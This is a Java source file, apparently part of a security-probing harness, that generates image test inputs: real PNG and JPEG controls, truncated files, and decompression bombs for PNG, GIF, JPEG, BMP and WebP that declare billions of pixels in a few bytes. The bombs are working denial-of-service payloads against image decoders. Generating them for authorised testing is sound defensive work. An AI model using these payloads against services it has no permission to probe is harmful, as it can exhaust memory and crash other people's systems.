package io.montage.attack.inputs;

import javax.imageio.ImageIO;
import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Base64;
import java.util.zip.CRC32;
import java.util.zip.Deflater;

/**
 * Images for probes: a small real one (the control that works), files that only look like images, and
 * decompression bombs: a few dozen bytes whose headers declare billions of pixels.
 */
public final class Images {

    private Images() {
    }

    /** A real 32×32 grey PNG. */
    public static byte[] png() {
        BufferedImage image = new BufferedImage(32, 32, BufferedImage.TYPE_BYTE_GRAY);
        for (int y = 0; y < 32; y++) {
            for (int x = 0; x < 32; x++) {
                image.getRaster().setSample(x, y, 0, (x * 8 + y * 3) & 0xFF);
            }
        }
        return encode(image, "png");
    }

    /** A real 32×32 JPEG. */
    public static byte[] jpeg() {
        BufferedImage image = new BufferedImage(32, 32, BufferedImage.TYPE_INT_RGB);
        for (int y = 0; y < 32; y++) {
            for (int x = 0; x < 32; x++) {
                image.setRGB(x, y, (x * 8) << 16 | (y * 8) << 8 | 0x40);
            }
        }
        return encode(image, "jpg");
    }

    public static String base64(byte[] bytes) {
        return Base64.getEncoder().encodeToString(bytes);
    }

    /**
     * A valid PNG that declares {@code width × height} 8-bit grey pixels and holds one deflated row of them: a
     * decoder that trusts the header allocates width × height bytes.
     */
    public static byte[] pngBomb(int width, int height) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(new byte[]{(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n'});
        ByteBuffer ihdr = ByteBuffer.allocate(13).putInt(width).putInt(height)
                .put((byte) 8).put((byte) 0).put((byte) 0).put((byte) 0).put((byte) 0);
        chunk(out, "IHDR", ihdr.array());
        byte[] row = new byte[1 + Math.min(width, 4096)];
        Deflater deflater = new Deflater();
        deflater.setInput(row);
        deflater.finish();
        byte[] idat = new byte[256];
        int n = deflater.deflate(idat);
        deflater.end();
        chunk(out, "IDAT", Arrays.copyOf(idat, n));
        chunk(out, "IEND", new byte[0]);
        return out.toByteArray();
    }

    /** A GIF whose logical screen and image are width × height, with a one-pixel body. */
    public static byte[] gifBomb(int width, int height) {
        ByteBuffer b = ByteBuffer.allocate(64).order(ByteOrder.LITTLE_ENDIAN);
        b.put("GIF89a".getBytes(StandardCharsets.US_ASCII)).putShort((short) width).putShort((short) height)
                .put((byte) 0x80).put((byte) 0).put((byte) 0)                  // global colour table of 2
                .put(new byte[]{0, 0, 0, (byte) 255, (byte) 255, (byte) 255})
                .put((byte) 0x2C).putShort((short) 0).putShort((short) 0).putShort((short) width).putShort((short) height)
                .put((byte) 0).put((byte) 2).put((byte) 2).put((byte) 0x4C).put((byte) 0x01).put((byte) 0)
                .put((byte) 0x3B);
        return Arrays.copyOf(b.array(), b.position());
    }

    /** A JPEG whose frame header (SOF0) declares width × height, then ends. */
    public static byte[] jpegBomb(int width, int height) {
        byte[] real = jpeg();
        // the real JPEG's SOF0 marker: patch its dimensions
        for (int i = 0; i + 8 < real.length; i++) {
            if ((real[i] & 0xFF) == 0xFF && (real[i + 1] & 0xFF) == 0xC0) {
                real[i + 5] = (byte) (height >> 8);
                real[i + 6] = (byte) height;
                real[i + 7] = (byte) (width >> 8);
                real[i + 8] = (byte) width;
                return real;
            }
        }
        throw new IllegalStateException("the JPEG encoder wrote no SOF0");
    }

    /** A BMP whose header declares width × height 24-bit pixels and holds none. */
    public static byte[] bmpBomb(int width, int height) {
        ByteBuffer b = ByteBuffer.allocate(54).order(ByteOrder.LITTLE_ENDIAN);
        b.put((byte) 'B').put((byte) 'M').putInt(54).putInt(0).putInt(54)
                .putInt(40).putInt(width).putInt(height).putShort((short) 1).putShort((short) 24).putInt(0)
                .putInt(0).putInt(2835).putInt(2835).putInt(0).putInt(0);
        return b.array();
    }

    /** A WebP (VP8X) whose canvas is width × height, with no image data. */
    public static byte[] webpBomb(int width, int height) {
        ByteBuffer b = ByteBuffer.allocate(30).order(ByteOrder.LITTLE_ENDIAN);
        b.put("RIFF".getBytes(StandardCharsets.US_ASCII)).putInt(22).put("WEBP".getBytes(StandardCharsets.US_ASCII))
                .put("VP8X".getBytes(StandardCharsets.US_ASCII)).putInt(10).putInt(0);
        int w = width - 1;
        int h = height - 1;
        b.put((byte) w).put((byte) (w >> 8)).put((byte) (w >> 16)).put((byte) h).put((byte) (h >> 8)).put((byte) (h >> 16));
        return b.array();
    }

    /** The first {@code n} bytes of a real PNG. */
    public static byte[] truncatedPng(int n) {
        return Arrays.copyOf(png(), n);
    }

    private static void chunk(ByteArrayOutputStream out, String type, byte[] data) {
        byte[] typeBytes = type.getBytes(StandardCharsets.US_ASCII);
        out.writeBytes(ByteBuffer.allocate(4).putInt(data.length).array());
        out.writeBytes(typeBytes);
        out.writeBytes(data);
        CRC32 crc = new CRC32();
        crc.update(typeBytes);
        crc.update(data);
        out.writeBytes(ByteBuffer.allocate(4).putInt((int) crc.getValue()).array());
    }

    private static byte[] encode(BufferedImage image, String format) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try {
            ImageIO.write(image, format, out);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }
}
